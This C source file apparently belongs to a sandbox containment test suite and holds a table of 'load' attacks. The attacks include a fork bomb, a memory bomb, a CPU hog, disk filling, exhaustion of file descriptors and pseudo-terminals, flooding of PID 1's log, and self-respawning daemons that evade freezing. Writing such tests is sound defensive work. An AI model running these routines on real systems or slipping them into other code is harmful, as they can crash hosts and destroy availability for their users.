/* SPDX-License-Identifier: MIT
 * Attacks by sheer amount. Each goes on until it is stopped by its ceiling or by the test, which looks at
 * bay0 and the others meanwhile: what they do is the verdict. `holds ...` is said when the load is there. */
#include "hostile.h"

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <unistd.h>

enum { BLOCK = 1 << 20 };

static int try_forks(const char *arg, char what[WHAT_MAX])
{
    pid_t pid;

    (void)arg;
    (void)what;
    signal(SIGCHLD, SIG_IGN);
    alarm(0);
    printf("holds a fork bomb\n");
    fflush(stdout);
    do
        pid = fork(); /* the child goes on forking */
    while (pid >= 0 || errno == EAGAIN);
    return EAGAIN;
}

static int try_memory(const char *arg, char what[WHAT_MAX])
{
    (void)arg;
    (void)what;
    printf("holds what it can get\n");
    fflush(stdout);
    /* A child each time: what is killed is replaced. */
    for (long i = 0; i < 1000000; i++) {
        /* cppcheck-suppress invalidFunctionArg ; -1 is what an anonymous mapping takes */
        char *p = mmap(NULL, 64 * BLOCK, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

        if (p == MAP_FAILED)
            continue;
        memset(p, 1, 64 * BLOCK);
        (void)fork();
    }
    return ENOMEM;
}

static int try_cpu(const char *arg, char what[WHAT_MAX])
{
    volatile unsigned long n = 0;

    (void)arg;
    (void)what;
    for (int i = 0; i < 4; i++)
        (void)fork();
    printf("holds the CPUs\n");
    fflush(stdout);
    while (n + 1 > 0)
        n++;
    return EAGAIN;
}

/* Until nothing more goes in, then what is left in smaller pieces. */
static int try_fill(const char *path, char what[WHAT_MAX])
{
    static char block[BLOCK];
    int fd = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0600);
    size_t size = sizeof block;

    (void)what;
    if (fd < 0)
        return errno;
    alarm(0);
    while (size >= 512) {
        ssize_t n = write(fd, block, size);

        if (n < 0 && errno != ENOSPC && errno != EDQUOT)
            return errno;
        if (n < 0)
            size /= 2;
    }
    fsync(fd);
    return ENOSPC;
}

/* Every file that the machine's table has room for. */
static int try_files(const char *path, char what[WHAT_MAX])
{
    struct rlimit l;

    (void)what;
    alarm(0);
    if (getrlimit(RLIMIT_NOFILE, &l) == 0) {
        l.rlim_cur = l.rlim_max;
        setrlimit(RLIMIT_NOFILE, &l);
    }
    for (int i = 0; i < 12; i++) {
        if (fork() == 0) {
            int fd;

            do
                fd = open(path, O_RDWR | O_NOCTTY | O_CLOEXEC);
            while (fd >= 0);
            for (;;)
                pause();
        }
    }
    sleep(1);
    hold(path);
    return 0;
}

/* Through its own terminal: what is said there lands in its log. */
static int try_log(const char *arg, char what[WHAT_MAX])
{
    static char line[4096];
    int fd = open("/proc/1/fd/1", O_WRONLY | O_NOCTTY | O_CLOEXEC);

    (void)arg;
    (void)what;
    if (fd < 0)
        return errno;
    memset(line, 'x', sizeof line);
    line[sizeof line - 1] = '\n';
    for (int i = 0; i < 4096; i++)
        if (write(fd, line, sizeof line) < 0)
            return errno;
    return EFBIG;
}

/* Daemons that count into a file, and start one another anew: what is frozen counts no further. */
static int try_freeze(const char *path, char what[WHAT_MAX])
{
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_APPEND | O_CLOEXEC, 0600);

    (void)what;
    if (fd < 0)
        return errno;
    signal(SIGCHLD, SIG_IGN);
    for (int i = 0; i < 8; i++) {
        if (fork() > 0)
            continue;
        alarm(0);
        setsid();
        for (;;) {
            (void)!write(fd, "x", 1);
            usleep(20000);
            if (fork() > 0)
                _exit(0);
            setsid();
        }
    }
    return EAGAIN;
}

const struct attack attacks_load[] = {
    {"fork-bomb", try_forks, ""},
    {"memory-bomb", try_memory, ""},
    {"cpu-hog", try_cpu, ""},
    {"fill-home", try_fill, "/home/persona/.hostile-fill"},
    {"fill-root", try_fill, "/hostile-fill"},
    {"fill-files", try_files, "/dev/null"},
    {"fill-terminals", try_files, "/dev/ptmx"},
    {"flood-log", try_log, ""},
    {"escape-freeze", try_freeze, "/home/persona/.hostile-ticks"},
    {NULL, NULL, NULL},
};
